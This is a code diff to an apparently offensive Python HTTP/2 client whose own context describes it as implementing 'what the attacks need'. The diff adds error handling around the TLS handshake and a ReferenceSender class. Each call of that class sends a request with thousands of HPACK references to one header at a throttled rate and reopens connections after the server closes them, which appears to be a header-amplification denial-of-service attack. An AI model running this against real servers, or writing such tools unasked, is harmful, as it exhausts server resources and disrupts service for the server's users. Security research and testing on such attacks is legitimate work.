@@ -6,7 +6,8 @@ It implements only what the attacks need, and encodes headers as plain HPACK lit
 import socket
 import ssl
 import struct
-from collections.abc import Iterator
+import time
+from collections.abc import Callable, Iterator
 from contextlib import ExitStack, contextmanager, suppress
 
 _PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
@@ -40,10 +41,17 @@ class Connection:
         """
         host, _, port = address.rpartition(":")
         self._socket: socket.socket = socket.create_connection((host, int(port)), 10, (source, 0))
-        if tls is not None:
-            self._socket = tls.wrap_socket(self._socket, server_hostname=host)
         self._next_stream = 1
         self._has_inserted = False
+        try:
+            if tls is not None:
+                self._socket = tls.wrap_socket(self._socket, server_hostname=host)
+            self._begin(window_bytes, acknowledges=acknowledges)
+        except OSError:
+            self._socket.close()
+            raise
+
+    def _begin(self, window_bytes: int, *, acknowledges: bool) -> None:
         settings = struct.pack(">HI", _INITIAL_WINDOW_SIZE, window_bytes)
         self._socket.sendall(_PREFACE + _frame(_SETTINGS, 0, 0, settings))
         if acknowledges:
@@ -147,6 +155,44 @@ class Connection:
 
     def close(self) -> None:
         self._socket.close()
+
+
+class ReferenceSender:
+    """Each call of this object sends one call with thousands of references to one header.
+
+    The calls are sent over one connection at `bytes_per_s`. When the server has closed it,
+    `connect` opens the next one.
+    """
+
+    def __init__(
+        self,
+        connect: Callable[[], Connection],
+        method: str,
+        references: int = 12_000,
+        bytes_per_s: float = 1.2e6,
+    ) -> None:
+        self.connections = 0
+        self._connect = connect
+        self._method = method
+        self._references = references
+        self._bytes_per_s = bytes_per_s
+        self._connection: Connection | None = None
+
+    def __call__(self) -> None:
+        if self._connection is None:
+            self._connection = self._connect()
+            self.connections += 1
+        try:
+            sent = self._connection.open_with_references(self._method, self._references)
+        except OSError:
+            self.close()
+            raise
+        time.sleep(sent / self._bytes_per_s)
+
+    def close(self) -> None:
+        if self._connection is not None:
+            self._connection.close()
+            self._connection = None
 
 
 @contextmanager
